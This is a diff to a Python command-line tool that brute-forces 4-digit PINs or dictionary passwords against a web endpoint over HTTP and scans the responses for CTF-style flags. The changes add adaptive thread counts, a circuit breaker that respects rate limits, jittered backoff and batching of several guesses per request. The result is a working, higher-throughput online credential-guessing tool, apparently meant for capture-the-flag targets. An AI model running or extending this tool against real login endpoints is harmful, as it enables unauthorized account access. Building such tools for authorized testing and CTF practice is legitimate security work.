@@ -1,27 +1,33 @@
 #!/usr/bin/env python3
 import argparse
+import json
 import requests
+from requests.adapters import HTTPAdapter
+import random
+import re
 import time
 import sys
+from collections import deque
+from itertools import chain, islice
 from concurrent.futures import ThreadPoolExecutor, wait, FIRST_COMPLETED
-from threading import Lock
+from threading import Event, Lock, Thread, stack_size
+from types import SimpleNamespace
+from urllib.parse import urlencode
 
+from constants import BANNER, DEFAULT_THREADS, DESCRIPTION
 
-BANNER = r"""
-   _______   __    _____  ___       ___________  _______   ________  ___________  _______   _______   
-  |   __ "\ |" \  (\"   \|"  \     ("     _   ")/"     "| /"       )("     _   ")/"     "| /"      \  
-  (. |__) :)||  | |.\\   \    |     )__/  \\__/(: ______)(:   \___/  )__/  \\__/(: ______)|:        | 
-  |:  ____/ |:  | |: \.   \\  |        \\_ /    \/    |   \___  \       \\_ /    \/    |  |_____/   ) 
-  (|  /     |.  | |.  \    \. |        |.  |    // ___)_   __/  \\      |.  |    // ___)_  //      /  
- /|__/ \    /\  |\|    \    \ |        \:  |   (:      "| /" \   :)     \:  |   (:      "||:  __   \  
-(_______)  (__\_|_)\___|\____\)         \__|    \_______)(_______/       \__|    \_______)|__|  \___) 
-                                                                                                          
-                                                              
-"""
 
-DESCRIPTION = "Concurrent brute-forcer: 4-digit PIN or dictionary mode — authorized targets only."
+MAX_BACKOFF = 30.0
 
-DEFAULT_THREADS = 10
+WORKER_STACK_SIZE = 512 * 1024
+
+PROGRESS_INTERVAL = 0.05
+
+MAX_SCAN = 64 * 1024
+
+FLAG_RE = re.compile(r"flag|ctf\{|\{[^}]{1,200}\}", re.IGNORECASE)
+
+PINS = tuple(f"{i:04d}" for i in range(10000))
 
 def parse_args():
     p = argparse.ArgumentParser()
@@ -32,11 +38,19 @@ def parse_args():
     p.add_argument("--method", "-m", choices=["GET", "POST"], default="GET")
     p.add_argument("--https", action="store_true")
     p.add_argument("--threads", "-t", type=int, default=DEFAULT_THREADS)
+    p.add_argument("--max-threads", type=int, default=None, help="Ceiling for adaptive concurrency (default: --threads, so it never grows)")
+    p.add_argument("--min-threads", type=int, default=None, help="Floor for adaptive concurrency (default: half of --threads)")
+    p.add_argument("--no-adaptive", action="store_true", help="Keep exactly --threads requests in flight")
     p.add_argument("--timeout", type=float, default=5.0)
     p.add_argument("--delay", type=float, default=0.0)
     p.add_argument("--retries", type=int, default=3)
+    p.add_argument("--cooldown", type=float, default=5.0, help="Seconds to pause all workers once most recent responses are 429/5xx")
     p.add_argument("--flag-key", default="flag")
     p.add_argument("--stop-on-found", action="store_true")
+    p.add_argument("--exhaustive", action="store_true", help="Keep trying remaining candidates after a flag is found")
+    p.add_argument("--batch-size", type=int, default=1, help="Candidates sent per request when the endpoint accepts several at once")
+    p.add_argument("--batch-param-style", choices=["repeat", "json", "csv"], default="repeat",
+                   help="How a batch is encoded: repeated params, a JSON array, or comma-separated")
     p.add_argument("--wordlist", "-w", help="Local file path or URL (dict mode). If omitted uses small default.")
     return p.parse_args()
 
@@ -59,122 +73,390 @@ def interactive_inputs(args):
         args.wordlist = wl or None
     return args
 
+def stream_lines(source, lines):
+    with source:
+        for line in lines:
+            if line.strip():
+                yield line.rstrip("\n")
+
 def load_wordlist(path_or_url):
     if not path_or_url:
-        return ["password", "123456", "12345678", "qwerty", "letmein"]
+        return iter(["password", "123456", "12345678", "qwerty", "letmein"])
     if path_or_url.startswith("http://") or path_or_url.startswith("https://"):
-        r = requests.get(path_or_url, timeout=10)
+        r = requests.get(path_or_url, timeout=10, stream=True)
         r.raise_for_status()
-        return [line.rstrip("\n") for line in r.text.splitlines() if line.strip()]
+        if r.encoding is None:
+            r.encoding = "utf-8"
+        return stream_lines(r, r.iter_lines(decode_unicode=True))
     else:
-        with open(path_or_url, "r", encoding="utf-8", errors="ignore") as f:
-            return [line.rstrip("\n") for line in f if line.strip()]
+        f = open(path_or_url, "r", encoding="utf-8", errors="ignore")
+        return stream_lines(f, f)
+
+def read_candidates(items, lock):
+    try:
+        yield from items
+    except (requests.exceptions.RequestException, OSError) as e:
+        with lock:
+            print(f"\nFailed to load wordlist: {e}")
+
+def retry_after_seconds(r):
+    value = r.headers.get("Retry-After")
+    if value is None:
+        return None
+    try:
+        return min(max(float(value), 0.0), MAX_BACKOFF)
+    except ValueError:
+        return None
+
+def response_text(r):
+    content = r.content
+    if len(content) <= MAX_SCAN:
+        return r.text
+    try:
+        return content[:MAX_SCAN].decode(r.encoding or "utf-8", errors="ignore")
+    except LookupError:
+        return content[:MAX_SCAN].decode("utf-8", errors="ignore")
+
+class PreparedSender:
+    def __init__(self, session, method, url, kwarg, timeout):
+        self.session = session
+        self.template = session.prepare_request(requests.Request(method, url))
+        self.template.headers.pop("Cookie", None)
+        self.query_prefix = self.template.url + ("&" if "?" in self.template.url else "?")
+        self.settings = session.merge_environment_settings(self.template.url, {}, None, None, None)
+        self.settings["timeout"] = timeout
+        self.prepare = {"params": self.prepare_query, "json": self.prepare_json, "data": self.prepare_form}[kwarg]
+
+    def prepare_query(self, p, body):
+        p.url = self.query_prefix + urlencode(body, doseq=True)
+
+    def prepare_form(self, p, body):
+        p.body = urlencode(body, doseq=True)
+        p.headers["Content-Type"] = "application/x-www-form-urlencoded"
+        p.prepare_content_length(p.body)
+
+    def prepare_json(self, p, body):
+        p.body = json.dumps(body).encode("utf-8")
+        p.headers["Content-Type"] = "application/json"
+        p.prepare_content_length(p.body)
+
+    def __call__(self, body):
+        p = self.template.copy()
+        self.prepare(p, body)
+        if self.session.cookies:
+            p.prepare_cookies(self.session.cookies)
+        return self.session.send(p, **self.settings)
+
+class CircuitBreaker:
+    def __init__(self, cooldown, window=50, threshold=25):
+        self.cooldown = cooldown
+        self.threshold = threshold
+        self.lock = Lock()
+        self.state = "closed"
+        self.opened_at = 0.0
+        self.recent = deque(maxlen=window)
+        self.failures = 0
+        self.probe = 0
+
+    def wait_until_allowed(self):
+        while True:
+            with self.lock:
+                if self.state == "closed":
+                    return None
+                remaining = self.opened_at + self.cooldown - time.monotonic()
+                if remaining <= 0:
+                    self.state = "half-open"
+                    self.opened_at = time.monotonic()
+                    self.probe += 1
+                    return self.probe
+            time.sleep(min(remaining, 0.5))
 
-def make_request(session, method, url, params_or_data, timeout, retries):
+    def record(self, failed, probe=None):
+        with self.lock:
+            if self.state == "half-open":
+                if probe != self.probe:
+                    return
+                if failed:
+                    self.state = "open"
+                    self.opened_at = time.monotonic()
+                else:
+                    self.state = "closed"
+                    self.recent.clear()
+                    self.failures = 0
+                return
+            if self.state == "open":
+                return
+            if len(self.recent) == self.recent.maxlen:
+                self.failures -= self.recent[0]
+            self.recent.append(failed)
+            self.failures += failed
+            if self.failures > self.threshold:
+                self.state = "open"
+                self.opened_at = time.monotonic()
+
+def make_request(send, body, retries, breaker):
     attempt = 0
     backoff = 0.5
+    status = None
+    throttled = 0
+    rtt = 0.0
     while attempt <= retries:
+        status = None
+        probe = breaker.wait_until_allowed()
+        t0 = time.monotonic()
         try:
-            if method == "GET":
-                r = session.get(url, params=params_or_data, timeout=timeout)
-            else:
-                if isinstance(params_or_data, dict):
-                    r = session.post(url, data=params_or_data, timeout=timeout)
-                else:
-                    r = session.post(url, data=str(params_or_data), timeout=timeout)
+            r = send(body)
         except (requests.exceptions.Timeout, requests.exceptions.ConnectionError):
+            rtt = time.monotonic() - t0
+            breaker.record(True, probe)
             attempt += 1
-            time.sleep(backoff)
-            backoff *= 2
+            time.sleep(min(backoff * (0.5 + random.random()), MAX_BACKOFF))
+            backoff = min(backoff * 2, MAX_BACKOFF)
             continue
+        rtt = time.monotonic() - t0
+        status = r.status_code
+        breaker.record(r.status_code == 429 or r.status_code >= 500, probe)
+        if r.status_code in (429, 503):
+            throttled += 1
         if r.status_code == 429:
             attempt += 1
-            time.sleep(backoff)
-            backoff *= 2
+            retry_after = retry_after_seconds(r)
+            if retry_after is None:
+                retry_after = min(backoff * (0.5 + random.random()), MAX_BACKOFF)
+            time.sleep(retry_after)
+            backoff = min(backoff * 2, MAX_BACKOFF)
             continue
         if 500 <= r.status_code < 600:
             attempt += 1
-            time.sleep(backoff)
-            backoff *= 2
+            time.sleep(min(backoff * (0.5 + random.random()), MAX_BACKOFF))
+            backoff = min(backoff * 2, MAX_BACKOFF)
             continue
+        if "json" not in r.headers.get("Content-Type", "") and r.content[:64].lstrip()[:1] not in (b"{", b"["):
+            return r.status_code, "text", response_text(r), throttled, rtt
         try:
-            return r.status_code, r.json()
+            data = r.json()
         except ValueError:
-            return r.status_code, r.text
-    return None, None
-
-def worker_task(item, base_url, method, param_name, session, timeout, retries, delay, flag_key, mode):
-    params_or_data = {param_name: item}
-    status, data = make_request(session, method, base_url, params_or_data, timeout, retries)
-    if delay:
-        time.sleep(delay)
-    if isinstance(data, dict) and flag_key in data:
-        return item, data[flag_key], status, data
-    if isinstance(data, str) and data.strip():
-        low = data.lower()
-        if "flag" in low or "ctf{" in low or ("{" in data and "}" in data):
-            return item, data.strip(), status, data
-    return item, None, status, data
+            return r.status_code, "text", response_text(r), throttled, rtt
+        if isinstance(data, dict):
+            return r.status_code, "json", data, throttled, rtt
+        if isinstance(data, str):
+            return r.status_code, "text", data, throttled, rtt
+        return r.status_code, "none", None, throttled, rtt
+    return status, "none", None, throttled, rtt
+
+def looks_like_flag(text):
+    return FLAG_RE.search(text) is not None
+
+def body_kwarg(method, batch_style):
+    if method == "GET":
+        return "params"
+    return "json" if batch_style == "json" else "data"
+
+def encode_batch(batch, param_name, style, kwarg):
+    if style is None:
+        return {param_name: batch[0]}
+    if style == "json":
+        return {param_name: list(batch) if kwarg == "json" else json.dumps(list(batch))}
+    if style == "csv":
+        return {param_name: ",".join(batch)}
+    return {param_name: list(batch)}
+
+def batch_hits(batch, kind, data, flag_key):
+    if kind == "json":
+        if flag_key in data:
+            if data[flag_key]:
+                return [(", ".join(batch), data[flag_key])]
+            return []
+        if len(batch) == 1:
+            return []
+        hits = []
+        for item in batch:
+            value = data.get(item)
+            if isinstance(value, dict):
+                value = value.get(flag_key)
+                if value:
+                    hits.append((item, value))
+            elif isinstance(value, str) and looks_like_flag(value):
+                hits.append((item, value))
+        return hits
+    if kind == "text" and looks_like_flag(data):
+        return [(", ".join(batch), data.strip())]
+    return []
+
+def worker_task(batch, ctx):
+    if ctx.found_event.is_set() and not ctx.exhaustive:
+        return batch, [], None, None, None, 0
+    body = encode_batch(batch, ctx.param_name, ctx.batch_style, ctx.kwarg)
+    status, kind, data, throttled, elapsed = make_request(ctx.send, body, ctx.retries, ctx.breaker)
+    if ctx.delay:
+        time.sleep(ctx.delay)
+    return batch, batch_hits(batch, kind, data, ctx.flag_key), status, data, elapsed, throttled
+
+class AdaptiveLimit:
+    def __init__(self, start, floor, ceiling, window=100, grow_every=20):
+        self.target = start
+        self.floor = floor
+        self.ceiling = ceiling
+        self.grow_every = grow_every
+        self.recent = deque(maxlen=window)
+        self.throttled = 0
+        self.ewma = None
+        self.baseline = None
+        self.since_check = 0
+
+    def push(self, hit):
+        if len(self.recent) == self.recent.maxlen:
+            self.throttled -= self.recent[0]
+        self.recent.append(hit)
+        self.throttled += hit
+
+    def record(self, status, elapsed, throttled):
+        for _ in range(min(throttled, self.recent.maxlen)):
+            self.push(True)
+        if status is not None and status not in (429, 503):
+            self.push(False)
+        self.ewma = elapsed if self.ewma is None else 0.8 * self.ewma + 0.2 * elapsed
+        if len(self.recent) >= 10 and self.throttled * 10 > len(self.recent):
+            self.target = max(self.floor, self.target // 2)
+            self.recent.clear()
+            self.throttled = 0
+            self.baseline = None
+            self.since_check = 0
+            return
+        self.since_check += 1
+        if self.since_check < self.grow_every:
+            return
+        self.since_check = 0
+        if self.baseline is not None and self.ewma <= self.baseline * 1.1 and self.target < self.ceiling:
+            self.target += 1
+        self.baseline = self.ewma
+
+def show_progress(progress, label, lock, stop):
+    shown = None
+    while True:
+        stopping = stop.wait(PROGRESS_INTERVAL)
+        attempted, last = progress
+        if last is not None and last != shown:
+            shown = last
+            with lock:
+                print(f"{label}: {last} ({attempted} attempted)", end="\r", flush=True)
+        if stopping:
+            break
+    if shown is not None:
+        with lock:
+            print()
 
 def run_mode(pairs, base_url, method, param_name, args):
     session = requests.Session()
     session.headers.update({"User-Agent": "BruteForcer/1.0"})
+    ceiling = max(args.max_threads or args.threads, args.threads)
+    floor = min(max(1, args.min_threads or args.threads // 2), args.threads)
+    if args.no_adaptive:
+        floor = ceiling = args.threads
+    limit = AdaptiveLimit(args.threads, floor, ceiling)
+    adapter = HTTPAdapter(pool_connections=ceiling, pool_maxsize=ceiling, max_retries=0, pool_block=True)
+    session.mount("http://", adapter)
+    session.mount("https://", adapter)
     found = []
     lock = Lock()
+    found_event = Event()
+    breaker = CircuitBreaker(args.cooldown)
+    it = read_candidates(pairs, lock)
+    batch_size = max(1, args.batch_size)
+    batch_style = args.batch_param_style if batch_size > 1 else None
+    if batch_style:
+        head = tuple(islice(it, 2))
+        it = chain(head, it)
+        if len(head) == 2:
+            kwarg = body_kwarg(method, batch_style)
+            probe = PreparedSender(session, method, base_url, kwarg, args.timeout)
+            status, _, _, _, _ = make_request(probe, encode_batch(head, param_name, batch_style, kwarg), args.retries, breaker)
+            if status in (400, 422):
+                print(f"Endpoint rejected a batched request (HTTP {status}); falling back to one candidate per request.")
+                batch_size = 1
+                batch_style = None
+    kwarg = body_kwarg(method, batch_style)
+    ctx = SimpleNamespace(
+        send=PreparedSender(session, method, base_url, kwarg, args.timeout),
+        kwarg=kwarg,
+        param_name=param_name,
+        retries=args.retries,
+        breaker=breaker,
+        delay=args.delay,
+        flag_key=args.flag_key,
+        batch_style=batch_style,
+        found_event=found_event,
+        exhaustive=args.exhaustive,
+    )
     try:
-        with ThreadPoolExecutor(max_workers=args.threads) as ex:
-            futures = []
-            idx = 0
-            total = len(pairs)
-            while idx < total and len(futures) < args.threads:
-                item = pairs[idx]
-                fut = ex.submit(worker_task, item, base_url, method, param_name, session, args.timeout, args.retries, args.delay, args.flag_key, args.mode)
-                futures.append((fut, item))
-                idx += 1
-            while futures:
-                done, _ = wait([f for f, _ in futures], return_when=FIRST_COMPLETED, timeout=1.0)
-                new_futures = []
-                for fut, item in futures:
-                    if fut in done:
-                        try:
-                            item_str, flag_val, status, body = fut.result()
-                        except Exception as e:
-                            with lock:
-                                print(f"\n[!] {item} -> exception: {e}")
-                            item_str, flag_val = item, None
-                        if flag_val:
-                            with lock:
-                                print()
-                                if args.mode == "pin":
-                                    print(f"Correct PIN found: {item_str}")
-                                else:
-                                    print(f"Correct password found: {item_str}")
-                                display_flag = flag_val if isinstance(flag_val, str) else str(flag_val)
-                                if len(display_flag) > 300:
-                                    display_flag = display_flag[:300] + " ... (truncated)"
-                                print(f"Flag: {display_flag}")
-                                found.append((item_str, display_flag))
-                            if args.stop_on_found:
-                                print("\nStopping because --stop-on-found was set.")
-                                return found
-                        else:
+        old_stack_size = stack_size(WORKER_STACK_SIZE)
+    except (ValueError, RuntimeError):
+        old_stack_size = None
+    progress = [0, None]
+    label = "Attempted PIN" if args.mode == "pin" else "Attempted password"
+    stop_progress = Event()
+    ui = Thread(target=show_progress, args=(progress, label, lock, stop_progress), daemon=True)
+    ui.start()
+
+    def stop_ui():
+        stop_progress.set()
+        ui.join()
+
+    try:
+        with ThreadPoolExecutor(max_workers=ceiling) as ex:
+            pending = {}
+            batches = iter(lambda: tuple(islice(it, batch_size)), ())
+            while True:
+                if args.exhaustive or not found_event.is_set():
+                    for batch in islice(batches, max(0, limit.target - len(pending))):
+                        fut = ex.submit(worker_task, batch, ctx)
+                        pending[fut] = batch
+                if not pending:
+                    break
+                done, _ = wait(pending, return_when=FIRST_COMPLETED)
+                for fut in done:
+                    batch = pending.pop(fut)
+                    try:
+                        batch, hits, status, body, elapsed, throttled = fut.result()
+                        if elapsed is None:
+                            continue
+                        limit.record(status, elapsed, throttled)
+                    except Exception as e:
+                        with lock:
+                            print(f"\n[!] {', '.join(batch)} -> exception: {e}")
+                        hits = []
+                    for item_str, flag_val in hits:
+                        with lock:
+                            print()
+                            if args.mode == "pin":
+                                print(f"Correct PIN found: {item_str}")
+                            else:
+                                print(f"Correct password found: {item_str}")
+                            display_flag = flag_val if isinstance(flag_val, str) else str(flag_val)
+                            if len(display_flag) > 300:
+                                display_flag = display_flag[:300] + " ... (truncated)"
+                            print(f"Flag: {display_flag}")
+                            found.append((item_str, display_flag))
+                            if not args.exhaustive and not args.stop_on_found and not found_event.is_set():
+                                print("Finishing in-flight attempts; pass --exhaustive to try the remaining candidates.")
+                        found_event.set()
+                        if args.stop_on_found:
+                            stop_ui()
                             with lock:
-                                label = "Attempted PIN" if args.mode == "pin" else "Attempted password"
-                                print(f"{label}: {item_str}", end="\r", flush=True)
-                        if idx < total:
-                            next_item = pairs[idx]
-                            nfut = ex.submit(worker_task, next_item, base_url, method, param_name, session, args.timeout, args.retries, args.delay, args.flag_key, args.mode)
-                            new_futures.append((nfut, next_item))
-                            idx += 1
-                    else:
-                        new_futures.append((fut, item))
-                futures = new_futures
-            with lock:
-                print()
+                                print("Stopping because --stop-on-found was set.")
+                            return found
+                    progress[0] += len(batch)
+                    progress[1] = batch[-1]
             return found
     except KeyboardInterrupt:
-        print("\nInterrupted by user. Exiting.")
+        stop_ui()
+        with lock:
+            print("Interrupted by user. Exiting.")
         sys.exit(1)
+    finally:
+        stop_ui()
+        if old_stack_size is not None:
+            stack_size(old_stack_size)
 
 def main():
     args = parse_args()
@@ -192,7 +474,7 @@ def main():
     print(f"Threads: {args.threads}, timeout: {args.timeout}s, retries: {args.retries}, delay: {args.delay}s")
     print("Starting... (Ctrl-C to stop)\n")
     if args.mode == "pin":
-        items = [f"{i:04d}" for i in range(10000)]
+        items = PINS
     else:
         try:
             items = load_wordlist(args.wordlist)